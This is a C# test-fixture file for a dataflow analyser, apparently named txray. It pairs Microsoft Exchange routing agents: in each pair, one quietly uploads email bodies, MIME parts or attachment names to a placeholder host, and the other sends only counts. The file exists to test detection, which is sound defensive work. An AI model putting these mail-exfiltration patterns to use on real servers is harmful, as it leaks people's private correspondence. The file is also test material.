// Pairs written for txray: two agents that differ in one thing, the first does it and the second does not.
// Helpers, base classes, callbacks of own types.
// Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange cannot load it; hosts end in
// .invalid or are documentation addresses. What a correct analysis says about each stands in samples/pairs-*.json.
using System;
using System.Collections.Generic;
using System.Diagnostics;
using System.IO;
using System.Linq;
using System.Net;
using Microsoft.Exchange.Data.Mime;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Email;
using Microsoft.Exchange.Data.Transport.Routing;
using Microsoft.Exchange.Data.Transport.Smtp;

// 78: parts of the message, walked by recursion
namespace Txray.Pairs.P78
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static void Walk(MimePart part, int depth)
        {
            foreach (MimePart child in part)
            {
                Walk(child, depth + 1);
            }
            var memory = new MemoryStream();
            part.GetContentReadStream().CopyTo(memory);
            new WebClient().UploadData("https://collect.example.invalid/pair", memory.ToArray());
        }

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Walk(e.MailItem.Message.RootPart, 0);
        }
    }

    public class Other : RoutingAgent
    {
        private static void Walk(MimePart part, int depth)
        {
            foreach (MimePart child in part)
            {
                Walk(child, depth + 1);
            }
            new WebClient().UploadData("https://collect.example.invalid/pair", BitConverter.GetBytes(depth));
        }

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Walk(e.MailItem.Message.RootPart, 0);
        }
    }
}

// 79: a base class that calls what the agent overrides
namespace Txray.Pairs.P79
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : Watching
    {
        protected override void Take(string text)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", text);
        }
    }

    public class Other : Watching
    {
        protected override void Take(string text)
        {
            Trace.WriteLine(text.Length.ToString());
        }
    }

    public abstract class Watching : RoutingAgent
    {
        protected Watching()
        {
            OnSubmittedMessage += Submitted;
        }

        protected abstract void Take(string text);

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Take(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 80: one helper that both agents call
namespace Txray.Pairs.P80
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Net.Send(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Trace.WriteLine(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd().Length.ToString());
            Net.Send("ping");
        }
    }

    internal static class Net
    {
        public static void Send(string text)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", text);
        }
    }
}

// 81: an interface with two implementations, given to a constructor
namespace Txray.Pairs.P81
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private readonly Desk desk = new Desk(new WebStore());

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            desk.Take(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        private readonly Desk desk = new Desk(new CountingStore());

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            desk.Take(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    internal interface IStore
    {
        void Save(string text);
    }

    internal class WebStore : IStore
    {
        void IStore.Save(string text)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", text);
        }
    }

    internal class CountingStore : IStore
    {
        private int count;

        void IStore.Save(string text)
        {
            count++;
        }
    }

    internal class Desk
    {
        private readonly IStore store;

        public Desk(IStore store)
        {
            this.store = store;
        }

        public void Take(string text)
        {
            store.Save(text);
        }
    }
}

// 82: a comparer of its own that a sort calls
namespace Txray.Pairs.P82
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var names = e.MailItem.Message.Attachments.Select(a => a.FileName).ToList();
            names.Sort(new Telling());
            Trace.WriteLine(names.Count.ToString());
        }
    }

    internal class Telling : IComparer<string>
    {
        public int Compare(string left, string right)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", left + " " + right);
            return string.CompareOrdinal(left, right);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var names = e.MailItem.Message.Attachments.Select(a => a.FileName).ToList();
            names.Sort(new Quiet());
            new WebClient().UploadString("https://collect.example.invalid/pair", names.Count.ToString());
        }
    }

    internal class Quiet : IComparer<string>
    {
        public int Compare(string left, string right)
        {
            return string.CompareOrdinal(left, right);
        }
    }
}
